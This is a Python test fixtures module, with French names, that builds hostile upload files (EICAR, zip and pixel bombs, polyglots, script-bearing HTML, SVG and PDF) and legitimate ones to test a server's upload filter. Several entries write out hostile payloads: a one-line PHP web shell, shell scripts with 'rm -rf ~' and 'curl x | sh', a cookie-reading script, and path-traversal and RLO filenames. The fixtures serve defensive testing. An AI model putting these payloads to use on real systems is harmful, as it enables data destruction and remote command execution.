"""Hostile files, built in memory by the tests (no binary is committed), and legit ones."""

import functools
import io
import zipfile

from PIL import Image, PngImagePlugin
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, StreamObject, TextStringObject

from tests.dossiers import fichiers
from tests.factories.dossiers import PDF_MINIMAL

# The EICAR test file: every antivirus reports it, it does nothing.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
ZEROS = 50 * 1024 * 1024
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 100
PE = fichiers.EXE
HTML = b"<!DOCTYPE html><html><body><script>fetch('/admin/')</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'
    b"<script>alert(document.cookie)</script></svg>"
)


def _zip(entrees: dict[str, bytes], compression=zipfile.ZIP_DEFLATED) -> bytes:
    tampon = io.BytesIO()
    with zipfile.ZipFile(tampon, "w", compression) as archive:
        for nom, contenu in entrees.items():
            archive.writestr(nom, contenu)
    return tampon.getvalue()


def pdf_avec_javascript() -> bytes:
    ecrivain = PdfWriter()
    ecrivain.add_blank_page(width=200, height=200)
    ecrivain._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('pwned');"),
        }
    )
    tampon = io.BytesIO()
    ecrivain.write(tampon)
    return tampon.getvalue()


def png_avec_script() -> bytes:
    infos = PngImagePlugin.PngInfo()
    infos.add_text("Comment", "<script>alert(1)</script>")
    tampon = io.BytesIO()
    Image.new("RGB", (4, 4)).save(tampon, format="PNG", pnginfo=infos)
    return tampon.getvalue()


@functools.cache
def png_geant() -> bytes:
    # 12 000 × 12 000 pixels in a few kilobytes: a decompression bomb for image readers.
    tampon = io.BytesIO()
    Image.new("1", (12000, 12000)).save(tampon, format="PNG", optimize=True)
    return tampon.getvalue()


@functools.cache
def bombe_zip() -> bytes:
    return _zip({"zeros.bin": b"\x00" * ZEROS})


@functools.cache
def docx_de_zeros() -> bytes:
    return _zip(
        {
            "[Content_Types].xml": b"<Types/>",
            "_rels/.rels": b"<Relationships/>",
            "word/document.xml": b"<w:document/>" + b"\x00" * ZEROS,
        }
    )


@functools.cache
def xlsx_de_zeros() -> bytes:
    return _zip(
        {
            "[Content_Types].xml": b"<Types/>",
            "xl/workbook.xml": b"<workbook/>",
            "xl/worksheets/sheet1.xml": b" " * ZEROS,
        }
    )


@functools.cache
def odt_de_zeros() -> bytes:
    return _zip(
        {
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "content.xml": b"<office:document-content/>" + b"\x00" * ZEROS,
        }
    )


def docx_mille_entrees() -> bytes:
    entrees = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}
    entrees.update({f"word/media/{i}.xml": b"x" for i in range(1200)})
    return _zip(entrees)


def docx_macro() -> bytes:
    return _zip(
        {
            "[Content_Types].xml": b"<Types/>",
            "word/document.xml": b"<w:document/>",
            "word/vbaProject.bin": PE,
        }
    )


def docx_eicar() -> bytes:
    return _zip(
        {
            "[Content_Types].xml": b"<Types/>",
            "word/document.xml": b"<w:document/>",
            "word/media/eicar.com": EICAR,
        }
    )


def pdf_avec_eicar() -> bytes:
    """A PDF that opens, whose page content stream is the EICAR string (uncompressed)."""
    ecrivain = PdfWriter()
    page = ecrivain.add_blank_page(width=200, height=200)
    flux = StreamObject()
    flux.set_data(EICAR)
    page[NameObject("/Contents")] = ecrivain._add_object(flux)
    tampon = io.BytesIO()
    ecrivain.write(tampon)
    return tampon.getvalue()


PDF_SANS_PAGE = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)


def hostiles() -> list[tuple[str, str, bytes]]:
    """(what, uploaded name, bytes): at least thirty ways to try the gate."""
    return [
        ("ELF renommé en PDF", "rapport.pdf", ELF),
        ("exécutable Windows renommé en PDF", "facture.pdf", PE),
        ("exécutable Windows renommé en DOCX", "courrier.docx", PE),
        ("script shell renommé en PDF", "lisez-moi.pdf", b"#!/bin/sh\nrm -rf ~\n"),
        ("script shell renommé en CSV", "donnees.csv", b"#!/bin/sh\ncurl x | sh\n"),
        ("page HTML avec script", "page.html", HTML),
        ("page HTML renommée en PDF", "page.pdf", HTML),
        ("page HTML renommée en CSV", "guichets.csv", HTML),
        ("SVG avec script", "plan.svg", SVG),
        ("SVG renommé en PNG", "plan.png", SVG),
        ("PHP renommé en JPEG", "photo.jpg", b"<?php system($_GET['c']); ?>"),
        ("polyglotte PDF + HTML", "deliberation.pdf", PDF_MINIMAL + HTML),
        ("PDF avec JavaScript", "formulaire.pdf", pdf_avec_javascript()),
        ("polyglotte JPEG + ZIP", "photo.jpg", fichiers.JPEG + fichiers.docx()),
        ("polyglotte PNG + ZIP", "carte.png", fichiers.PNG + fichiers.zip_quelconque()),
        ("polyglotte PDF + ZIP", "plan.pdf", PDF_MINIMAL + fichiers.docx()),
        ("PNG avec script dans ses métadonnées", "logo.png", png_avec_script()),
        ("PDF vide (0 octet)", "vide.pdf", b""),
        ("PDF réduit à son en-tête", "entete.pdf", b"%PDF-1.7\n"),
        ("PDF tronqué", "tronque.pdf", PDF_MINIMAL[: len(PDF_MINIMAL) // 2]),
        ("PDF sans aucune page", "sans-page.pdf", PDF_SANS_PAGE),
        ("PNG tronqué", "tronque.png", fichiers.PNG[:40]),
        ("JPEG tronqué", "tronque.jpg", fichiers.JPEG[: len(fichiers.JPEG) // 2]),
        ("PNG géant (bombe de pixels)", "immense.png", png_geant()),
        ("bombe ZIP", "archive.zip", bombe_zip()),
        ("bombe ZIP renommée en XLSX", "budget.xlsx", bombe_zip()),
        ("DOCX de 50 Mo de zéros", "memoire.docx", docx_de_zeros()),
        ("XLSX de 50 Mo d'espaces", "plan.xlsx", xlsx_de_zeros()),
        ("ODT de 50 Mo de zéros", "note.odt", odt_de_zeros()),
        ("DOCX de 1 200 entrées", "gros.docx", docx_mille_entrees()),
        ("DOCX avec macro", "macro.docx", docx_macro()),
        ("ZIP sans manifeste renommé en DOCX", "faux.docx", fichiers.zip_quelconque()),
        ("fichier de 25 Mo", "enorme.pdf", PDF_MINIMAL + b"%" * (25 * 1024 * 1024)),
        ("nom avec U+202E (RLO)", "facture\u202efdp.exe", PE),
        ("nom avec traversée de chemin", "../../etc/passwd.pdf", ELF),
        ("nom avec NUL et caractères de contrôle", "note\x00\x1b[31m.pdf", PE),
        ("EICAR brut", "eicar.com", EICAR),
        ("EICAR renommé en PDF", "eicar.pdf", EICAR),
        ("EICAR renommé en CSV", "eicar.csv", EICAR),
        ("EICAR dans un PDF valide", "propre.pdf", pdf_avec_eicar()),
        ("EICAR dans un DOCX", "propre.docx", docx_eicar()),
    ]


def legitimes() -> list[tuple[str, bytes, str]]:
    """(name, bytes, the type the server must store and serve)."""
    return [
        ("deliberation.pdf", PDF_MINIMAL, "application/pdf"),
        ("plan.png", fichiers.PNG, "image/png"),
        ("photo.jpg", fichiers.JPEG, "image/jpeg"),
        (
            "memoire.docx",
            fichiers.docx(),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        (
            "budget.xlsx",
            fichiers.xlsx(),
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ),
        ("note.odt", fichiers.odt(), "application/vnd.oasis.opendocument.text"),
    ]
